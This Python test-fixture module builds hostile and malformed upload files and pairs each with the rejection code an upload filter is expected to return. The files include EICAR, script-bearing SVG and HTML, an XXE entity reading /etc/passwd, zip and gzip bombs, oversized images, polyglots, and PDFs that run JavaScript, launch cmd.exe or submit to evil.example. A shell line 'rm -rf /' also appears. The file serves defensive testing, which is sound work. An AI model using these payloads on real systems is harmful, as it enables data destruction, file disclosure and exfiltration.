"""Files that somebody means badly, and some that are only unusual: made here, so that none of them lies about."""

import io
import os
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PLACE = {1: "N", 2: (44.0, 38.0, 51.0), 3: "W", 4: (63.0, 34.0, 30.0)}  # GPS


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **how: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 120 if mode in ("L", "P", "1") else tuple([122, 31, 75, 255][: len(mode)])).save(out, kind, **how)
    return out.getvalue()


def photo(size: tuple[int, int] = (80, 60), turned: int = 6) -> bytes:
    """As a phone takes it: on its side, with where, when and by what; left half red, right half blue."""
    image = Image.new("RGB", size, (200, 0, 0))
    image.paste((0, 0, 200), (size[0] // 2, 0, *size))
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "SecretMaker", turned
    exif.get_ifd(0x8825).update(PLACE)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"SecretComment", xmp=b"<x:xmpmeta>SecretXmp</x:xmpmeta>", quality=95)
    return out.getvalue()


def pdf(extra: bytes = b"", objects: bytes = b"", head: bytes = b"%PDF-1.7\n", end: bytes = b"startxref\n9\n%%EOF\n") -> bytes:
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + b" >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    return head + catalog + objects + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 3 >>\n" + end


def packed(inside: bytes, how: bytes = b"/Filter /FlateDecode", kind: bytes = b"/Type /ObjStm /N 1 /First 4", times: int = 1) -> bytes:
    for _ in range(times):
        inside = zlib.compress(inside)
    return b"5 0 obj\n<< %s %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (kind, how, len(inside), inside)


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_of(width: int, height: int, body: bytes = b"", depth: int = 8) -> bytes:
    """A PNG that says to be so large."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")


def archive(name: str, body: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, body)
    return out.getvalue()


JS = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"


def refused() -> dict[str, tuple[bytes, str]]:
    """What is never kept, by what it is: the file, and the code of why."""
    jpeg, png, webp = picture(), picture("PNG"), picture("WEBP")
    zeros = b"\0" * 3_000_000
    return {
        "nothing": (b"", "empty"),
        "one zero": (b"\0", "not_allowed"),
        "spaces": (b"  \n\t", "not_allowed"),
        "plain text": (b"Hello", "not_allowed"),
        "EICAR": (EICAR, "not_allowed"),
        "a page": (b"<!doctype html><script>alert(1)</script>", "not_allowed"),
        "SVG with a script": (SVG, "not_allowed"),
        "XML": (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "not_allowed"),
        "a program of Windows": (b"MZ" + b"\0" * 100, "not_allowed"),
        "a program of Linux": (b"\x7fELF" + b"\0" * 100, "not_allowed"),
        "a shell script": (b"#!/bin/sh\nrm -rf /\n", "not_allowed"),
        "GIF": (picture("GIF", mode="P"), "not_allowed"),
        "GIF that is a script": (b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", "not_allowed"),
        "BMP": (picture("BMP"), "not_allowed"),
        "TIFF": (picture("TIFF"), "not_allowed"),
        "ICO": (picture("ICO"), "not_allowed"),
        "EPS": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", "not_allowed"),
        "HEIC": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 40, "not_allowed"),
        "a film": (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 40, "not_allowed"),
        "ZIP": (archive("a.txt", b"x"), "not_allowed"),
        "ZIP bomb": (archive("a.txt", b"\0" * 20_000_000), "not_allowed"),
        "a document of Word": (archive("word/document.xml", b"<w/>"), "not_allowed"),
        "gzip bomb": (zlib.compress(b"\0" * 20_000_000, 9), "not_allowed"),
        "noise": (os.urandom(5000), "not_allowed"),
        "the first bytes of a JPEG": (jpeg[:3], "not_allowed"),
        "half a JPEG": (photo((800, 600))[:3000], "broken"),
        "half a PNG": (png[: len(png) // 2], "broken"),
        "half a WebP": (webp[: len(webp) // 2], "broken"),
        "a PNG of nothing": (png_of(100, 100), "broken"),
        "a PNG with a wrong sum": (png[:40] + b"\0\0\0\0" + png[44:], "not_allowed"),
        "4 GiB by its head": (png_of(32_000, 32_000, zeros), "too_many_pixels"),
        "4 GiB in a chunk": (b"\x89PNG\r\n\x1a\n\xff\xff\xff\xffIHDR" + b"\0" * 50, "broken"),
        "65,535 by 65,535": (png_of(65_535, 65_535), "too_many_pixels"),
        "1 px by 60,000 px": (picture("PNG", (1, 60_000)), "too_narrow"),
        "60,000 px by 1 px": (picture("PNG", (60_000, 1)), "too_narrow"),
        "a bomb of 100 million pixels": (picture("PNG", (10_000, 10_000), "1"), "too_many_pixels"),
        "a wide WebP": (picture("WEBP", (4000, 3000), method=0), "too_many_pixels"),
        "an empty PDF": (b"%PDF-", "broken"),
        "a PDF of one line": (b"%PDF-1.7\n%%EOF", "broken"),
        "a PDF of another version": (pdf(head=b"%PDF-9.9\n"), "broken"),
        "a PDF that was broken off": (pdf()[:-20], "broken"),
        "a PDF behind something": (b"GIF89a" + pdf(), "not_allowed"),
        "a PDF that is a page": (pdf(head=b"%PDF-1.4\n%<html><script>alert(1)</script>\n"), "not_allowed"),
        "a PDF that is a ZIP": (pdf() + archive("a.class", b"x") + b"%%EOF", "not_allowed"),
        "a PDF with a script": (pdf(JS), "pdf_active"),
        "a PDF with a script, written otherwise": (pdf(JS.replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/#4aS")), "pdf_active"),
        "a script in a packed object": (pdf(objects=packed(b"3 0 << /S /JavaScript /JS (x) >>")), "pdf_active"),
        "a script that is packed without saying so": (pdf(objects=packed(b"3 0 << /S /JavaScript >>", kind=b"/N 1 /First 4")), "pdf_active"),
        "a script that is packed twice": (pdf(objects=packed(b"3 0 << /S /JavaScript >>", times=2)), "pdf_active"),
        "a script far inside": (pdf(objects=packed(os.urandom(600_000) + b"/JavaScript " + os.urandom(1000))), "pdf_active"),
        "a script behind a name of one": (pdf(b"/Names << /JavaScript 9 0 R >>"), "pdf_active"),
        "what is packed otherwise": (pdf(objects=packed(b"x", b"/Filter [/ASCII85Decode /FlateDecode]")), "pdf_active"),
        "a script of a film": (pdf(b"/AA << /O << /S /Rendition /JS (x) >> >>"), "pdf_active"),
        "a PDF that starts a program": (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf_active"),
        "a PDF with a file inside": (pdf(b"/Names << /EmbeddedFiles 7 0 R >>"), "pdf_active"),
        "a PDF with a file beside": (pdf(objects=b"8 0 obj\n<< /Subtype /FileAttachment >>\nendobj\n"), "pdf_active"),
        "a PDF that opens another computer": (pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) >>"), "pdf_active"),
        "a form that sends itself": (pdf(objects=b"8 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n"), "pdf_active"),
        "a form of XFA": (pdf(b"/AcroForm << /XFA 7 0 R >>"), "pdf_active"),
        "a PDF that is locked": (pdf().replace(b"/Size 3", b"/Size 3 /Encrypt 7 0 R"), "pdf_locked"),
    }  # fmt: skip


def kept() -> dict[str, tuple[bytes, str]]:
    """What is kept, but not as it came: the file, and what it is afterwards.  None of it holds the word Secret then."""
    hidden = b"<script>Secret</script>"
    return {
        "a photo with where it was taken": (photo(), "image/jpeg"),
        "a JPEG that is a page, too": (picture(comment=hidden), "image/jpeg"),
        "a JPEG with a ZIP behind it": (picture() + archive("Secret.class", b"Secret"), "image/jpeg"),
        "a JPEG with a PDF behind it": (picture() + pdf(b"/Secret"), "image/jpeg"),
        "a PNG with words": (b"\x89PNG\r\n\x1a\n" + picture("PNG")[8:33] + chunk(b"tEXt", b"Comment\0" + hidden) + picture("PNG")[33:], "image/png"),
        "a PNG with a page behind it": (picture("PNG") + hidden, "image/png"),
        "a WebP with notes": (picture("WEBP", exif=b"Exif\0\0II*\0\x08\0\0\0\0\0\0\0Secret", xmp=b"Secret"), "image/webp"),
        "of one pixel": (picture("PNG", (1, 1)), "image/png"),
        "in the colours of print": (picture("JPEG", mode="CMYK"), "image/jpeg"),
        "one that moves": (picture("WEBP", save_all=True, append_images=[Image.new("RGB", (60, 40))]), "image/webp"),
    }  # fmt: skip
